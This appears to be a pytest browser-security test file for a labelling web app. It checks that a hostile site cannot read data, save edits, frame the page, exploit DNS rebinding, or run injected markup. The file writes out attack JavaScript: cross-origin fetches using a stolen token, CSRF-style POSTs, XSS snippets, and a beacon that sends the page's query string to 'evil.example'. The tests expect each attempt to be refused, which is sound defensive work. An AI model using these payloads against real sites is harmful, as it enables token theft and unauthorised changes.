"""A hostile web site in the same browser that even knows the token: it reads nothing and changes nothing."""

import http.server
import threading
from urllib.parse import parse_qs, urlsplit

import pytest

from fidip.labelling.store import LabelStore
from tests.browser.conftest import CHROMIUM

EVIL_HOST = "evil.example"
ATTACKS = """async ({target, token}) => {
  const tried = async (name, attack) => [name, await attack().catch(error => "refused: " + error.name)];
  const read = async (path, options) => {
    const answer = await fetch(target + path, options);
    return answer.type === "opaque" ? "refused: opaque" : "read " + (await answer.text()).slice(0, 40);
  };
  const embedded = (kind, address, attributes = {}) => new Promise((resolve, reject) => {
    const element = Object.assign(document.createElement(kind), attributes);
    element.onload = () => resolve("loaded " + address);
    element.onerror = () => reject(new Error());
    element[kind === "link" ? "href" : "src"] = address;
    document.head.append(element);
  });
  const known = {"X-Syrip-Token": token};
  const edit = JSON.stringify({
    base_revision: 0, action: "evil", who: "evil",
    document: {people: [], status: "rejected", reasons: [], note: ""},
  });
  const sent = (method, type) => ({method, mode: "no-cors", body: edit, headers: {"Content-Type": type}});
  return Object.fromEntries([
    await tried("read", () => read("/api/project")),
    await tried("read with the token", () => read("/api/project", {headers: known})),
    await tried("read unseen", () => read(`/api/project?token=${token}`, {mode: "no-cors"})),
    await tried("read the page", () => read("/")),
    await tried("save", () => read("/api/images/1", {
      method: "PUT", headers: {...known, "Content-Type": "application/json"}, body: edit,
    })),
    await tried("save as a form", () => read(`/api/images/1?token=${token}`, sent("POST", "text/plain"))),
    await tried("export unseen", () => read(`/api/export?token=${token}`, sent("POST", "text/plain"))),
    await tried("picture", () => embedded("img", `${target}/api/images/1/file?token=${token}`)),
    await tried("anonymous picture", () =>
      embedded("img", `${target}/api/images/1/file?token=${token}`, {crossOrigin: "anonymous"})),
    await tried("script", () => embedded("script", `${target}/static/main.js`)),
    await tried("data as script", () => embedded("script", `${target}/api/project?token=${token}`)),
    await tried("style", () => embedded("link", `${target}/static/style.css`, {rel: "stylesheet"})),
  ]);
}"""


class _Silent(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<!doctype html><title>evil</title>")

    def log_message(self, *_):
        pass


@pytest.fixture
def evil_site():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Silent)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://{EVIL_HOST}:{server.server_port}"
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture(scope="module")
def fooled_browser(browser):
    """A browser whose name server the attacker controls."""
    rules = f"--host-resolver-rules=MAP {EVIL_HOST} 127.0.0.1"
    options = ["--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu", rules]
    fooled = browser.browser_type.launch(executable_path=str(CHROMIUM), args=options)
    yield fooled
    fooled.close()


@pytest.fixture
def visitor(fooled_browser):
    """A fresh tab of it."""
    context = fooled_browser.new_context()
    yield context.new_page()
    context.close()


@pytest.fixture
def unchanged(project, address):
    """The project is the same afterwards."""
    with LabelStore.open(project) as store:
        before = store.last_change()
        yield
        assert store.last_change() == before
        assert len(store.history(1)) == 1


def parts_of(address):
    parts = urlsplit(address)
    return f"http://{parts.netloc}", parse_qs(parts.query)["token"][0]


@pytest.mark.usefixtures("unchanged")
def test_other_sites_read_nothing_and_change_nothing(address, visitor, evil_site):
    target, token = parts_of(address)
    visitor.goto(evil_site)
    results = visitor.evaluate(ATTACKS, {"target": target, "token": token})
    assert len(results) == 12
    assert {name: result for name, result in results.items() if not result.startswith("refused")} == {}


def test_the_same_calls_work_for_the_page_itself(address, visitor):
    """Else the test above would prove nothing."""
    target, token = parts_of(address)
    visitor.goto(address)
    results = visitor.evaluate(ATTACKS, {"target": target, "token": token})
    assert results["read"].startswith('read {"detail"')
    assert results["read with the token"].startswith('read {"kind"')
    assert results["save"].startswith('read {"id":1')
    assert results["picture"].startswith("loaded")
    assert results["style"].startswith("loaded")


@pytest.mark.usefixtures("unchanged")
def test_page_is_not_shown_in_a_frame_of_another_site(address, visitor, evil_site):
    target, _ = parts_of(address)
    visitor.goto(evil_site)
    with visitor.expect_response(lambda answer: answer.url.startswith(target)) as answered:
        visitor.evaluate(
            "src => document.body.append(Object.assign(document.createElement('iframe'), {src}))", address
        )
    assert answered.value.status == 403


@pytest.mark.usefixtures("unchanged")
def test_name_that_was_made_to_point_here_opens_nothing(address, visitor):
    """DNS rebinding: for the browser, the attacker's page and the server are one site."""
    target, token = parts_of(address)
    rebound = target.replace("127.0.0.1", EVIL_HOST)
    answer = visitor.goto(f"{rebound}/?token={token}")
    assert answer.status == 403
    code = visitor.evaluate(
        "async token => (await fetch('/api/project', {headers: {'X-Syrip-Token': token}})).status", token
    )
    assert code == 403


def test_markup_that_slipped_into_the_page_does_nothing(address, visitor, evil_site):
    """Even if a text became markup: no script of its own runs, and nothing can be sent elsewhere."""
    visitor.goto(address)
    visitor.wait_for_selector("text=a.png")
    dialogs = []
    visitor.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.accept()))
    outcome = visitor.evaluate(
        """async elsewhere => {
          const refused = attack => { try { attack(); return "done"; } catch (error) { return error.name; } };
          const script = document.createElement("script");
          const image = document.createElement("img");
          const results = [
            refused(() => { document.body.innerHTML += "<img src=x onerror=alert(1)>"; }),
            refused(() => { script.text = "alert(2)"; document.head.append(script); }),
            refused(() => { image.setAttribute("onerror", "alert(3)"); image.src = "/x"; }),
            await fetch(elsewhere).then(() => "sent", error => error.name),
            await new Promise(done => {
              const beacon = new Image();
              beacon.onload = () => done("sent");
              beacon.onerror = () => done("refused");
              beacon.src = elsewhere + "/?" + location.search;
            }),
          ];
          await new Promise(done => setTimeout(done, 200));
          return results;
        }""",
        evil_site,
    )
    assert outcome[0] == outcome[1] == outcome[3] == "TypeError"
    assert outcome[4] == "refused"
    assert dialogs == []
